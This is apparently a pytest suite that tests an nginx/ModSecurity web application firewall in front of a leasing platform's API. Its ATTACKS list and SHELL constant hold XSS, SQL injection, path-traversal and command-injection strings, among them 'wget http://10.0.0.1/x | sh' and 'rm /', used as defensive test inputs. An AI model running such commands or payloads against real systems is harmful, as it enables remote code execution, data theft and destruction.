"""The firewall before pages and api as it is shipped: a real nginx with ModSecurity and the core rule set."""

from __future__ import annotations

import os
import re
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest

import web
from api import certificate
from leasing.host import packages
from leasing.settings.core import CoreSettings
from tests.support import sources
from tests.support.api import served, token
from tests.support.cluster import Cluster
from tests.support.gateways import Application
from tests.support.stack import free_port, until

EDGE = sources.ROOT / "api" / "edge"
MODULES = Path("/usr/lib/nginx/modules")


@contextmanager
def nginx(folder: Path, behind: int) -> Iterator[str]:
    """The shipped files with the lines that are marked as one's own changed; its address."""
    assert (MODULES / "ngx_http_modsecurity_module.so").exists(), "python -m leasing.host setup --for-tests"
    port = free_port()
    cert, key = certificate.ensure(CoreSettings(state_dir=folder))
    text = (EDGE / "nginx.conf").read_text()
    for old, new in (
        ("listen 443 ssl http2;", f"listen 127.0.0.1:{port} ssl http2;"),
        ("127.0.0.1:8080;", f"127.0.0.1:{behind};"),
        ("/etc/leasing/edge/served.pem", str(cert)),
        ("/etc/leasing/edge/served.key", str(key)),
        ("/etc/leasing/edge/", f"{folder}/"),
        ("load_module modules/", f"daemon off;\nload_module {MODULES}/"),
        ("user www-data;", "user root;" if os.geteuid() == 0 else ""),
        ("worker_processes auto;", "worker_processes 1;"),
        ("/var/log/nginx/leasing-edge.log", f"{folder}/log"),
        ("/run/leasing-edge.pid", f"{folder}/pid"),
    ):
        assert old in text, f"the shipped file has no {old!r}"
        text = text.replace(old, new)
    text = text.replace("https://platform", "http://platform")
    (folder / "nginx.conf").write_text(text)
    shutil.copy(EDGE / "waf.conf", folder)
    process = subprocess.Popen([packages.program("nginx") or "nginx", "-c", folder / "nginx.conf"])
    try:
        until(lambda: (folder / "pid").exists() and _listens(port), what="nginx")
        yield f"https://127.0.0.1:{port}"
    finally:
        process.terminate()
        process.wait(10)


def _listens(port: int) -> bool:
    try:
        socket.create_connection(("127.0.0.1", port), 1).close()
    except OSError:
        return False
    return True


@pytest.fixture(scope="module")
def edge(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Application]]:
    """In front of an application that answers anything, and remembers what reached it."""
    behind = Application()
    with nginx(tmp_path_factory.mktemp("edge"), behind.port) as url:
        yield url, behind
    behind.close()


ATTACKS = [
    ("GET", "/?q=<script>alert(1)</script>", None),
    ("GET", "/api/v1/leases?name=1' OR '1'='1' --", None),
    ("GET", "/api/v1/leases?name=../../../../etc/passwd", None),
    ("GET", "/static/../../../../etc/passwd?x=/etc/passwd", None),
    ("POST", "/api/v1/leases", {"name": "<script>alert(1)</script>"}),
    ("POST", "/api/v1/leases", {"name": "a", "image": "x; cat /etc/passwd"}),
    ("POST", "/api/v1/projects", {"name": "a' UNION SELECT password FROM users --"}),
    ("PATCH", "/api/v1/users/ada", {"role": "../../../etc/shadow"}),
]


@pytest.mark.parametrize(("method", "path", "body"), ATTACKS)
def test_the_usual_attacks_are_stopped(
    edge: tuple[str, Application], method: str, path: str, body: dict[str, str] | None
) -> None:
    url, behind = edge
    before = len(behind.seen)
    assert httpx.request(method, url + path, json=body, verify=False).status_code in (400, 403)
    assert len(behind.seen) == before


SHELL = "cat /etc/passwd; wget http://10.0.0.1/x | sh; python -c \"print('<script>')\" # 1' OR '1'='1"
ASKED = [
    ("POST", "/api/v1/leases", {"name": "a", "command": ["sh", "-c", SHELL], "env": {"A": "../../etc/passwd; rm /"}}),
    ("POST", "/api/v1/leases", {"name": "a", "image": "leasing/base:1", "gpu": "A100:2", "labels": {"team": "eyes"}}),
    ("POST", "/api/v1/leases/demo/keep", {"command": "pgrep -f train.py || test -e /tmp/busy"}),
    ("PUT", "/api/v1/contacts/webhook", {"address": "https://10.1.2.3/hooks?a=b"}),
    ("PATCH", "/api/v1/nodes/local", {"intent": "cordoned", "reason": "fan is loud; see ticket 12"}),
    ("DELETE", "/api/v1/leases/demo", None),
]  # fmt: skip


@pytest.mark.parametrize(("method", "path", "body"), ASKED)
def test_what_people_ask_passes(
    edge: tuple[str, Application], method: str, path: str, body: dict[str, object] | None
) -> None:
    url, behind = edge
    before = len(behind.seen)
    headers = {"Authorization": "Bearer lse_Ab-Cd--eF", "Cookie": "leasing_session=a--b_union-select"}
    assert httpx.request(method, url + path, json=body, headers=headers, verify=False).text == "hello"
    assert len(behind.seen) == before + 1


def test_a_form_with_a_command_passes(edge: tuple[str, Application]) -> None:
    url, _ = edge
    assert httpx.post(f"{url}/leases", data={"name": "a", "command": SHELL}, verify=False).text == "hello"


def test_an_upload_passes_unread_while_it_comes(edge: tuple[str, Application]) -> None:
    url, behind = edge
    body = b"<script>../../etc/passwd' OR '1'='1" * 100_000
    path = "/api/v1/leases/demo/files?path=/workspace/a.tar"
    assert httpx.put(url + path, content=body, verify=False, timeout=20).text == "hello"
    assert behind.seen[-1].endswith(body)
    assert httpx.put(f"{url}/api/v1/leases/demo/endpoint", content=body, verify=False).status_code in (
        400,
        403,
        413,
    )


def test_a_websocket_passes_both_ways(edge: tuple[str, Application]) -> None:
    url, behind = edge
    behind.answer = lambda _: [
        b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n\x81\x05hello",
    ]
    try:
        with subprocess.Popen(
            [
                "curl", "-skN", "--http1.1", "--max-time", "20", "-H", "Connection: Upgrade",
                "-H", "Upgrade: websocket",
                "-H", "Sec-WebSocket-Version: 13", "-H", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "-i",
                f"{url}/api/v1/leases/demo/terminal",
            ],
            stdout=subprocess.PIPE,
        ) as caller:  # fmt: skip
            assert caller.stdout is not None
            said = b""
            while not said.endswith(b"hello") and (part := os.read(caller.stdout.fileno(), 65536)):
                said += part
            caller.kill()
    finally:
        behind.answer = lambda _: [b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"]
    assert said.startswith(b"HTTP/1.1 101 ")
    assert said.endswith(b"\x81\x05hello")
    assert re.search(rb"(?i)upgrade: websocket", behind.seen[-1])


def test_events_come_as_they_are_written(edge: tuple[str, Application]) -> None:
    url, behind = edge
    came, in_time = threading.Event(), []

    def events(_: bytes) -> Iterator[bytes]:
        yield b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
        yield b"9\r\ndata: 1\n\n\r\n"
        in_time.append(came.wait(20))
        yield b"9\r\ndata: 2\n\n\r\n0\r\n\r\n"

    behind.answer = events
    try:
        with httpx.stream("GET", f"{url}/api/v1/leases/demo/events", verify=False, timeout=30) as answer:
            lines = (line for line in answer.iter_lines() if line)
            assert next(lines) == "data: 1"
            came.set()
            assert list(lines) == ["data: 2"]
    finally:
        behind.answer = lambda _: [b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"]
    assert in_time == [True], "the first was not held until the last"


def test_the_pages_and_the_api_work_behind_it(database_url: str, tmp_path: Path) -> None:
    with (
        Cluster.opened(database_url) as cluster,
        served(cluster, tmp_path, prepare=web.mount) as api,
        nginx(tmp_path, api.settings.port) as url,
        httpx.Client(
            base_url=url, verify=False, headers={"Authorization": f"Bearer {token(cluster, cluster.ada)}"}
        ) as ada,
    ):
        made = ada.post("/api/v1/leases", json={"name": "demo", "command": ["sh", "-c", SHELL]})
        assert (made.status_code, made.json()["name"]) == (201, "demo")
        assert ada.get("/api/v1/leases/demo").json()["request"]["command"][2] == SHELL
        page = httpx.get(f"{url}/signin", verify=False)
        assert (page.status_code, "<html" in page.text) == (200, True)
        assert ada.delete("/api/v1/leases/demo").is_success
        refused = ada.get("/api/v1/leases/nosuch")
        assert (refused.status_code, refused.json()["code"]) == (404, "not_found")
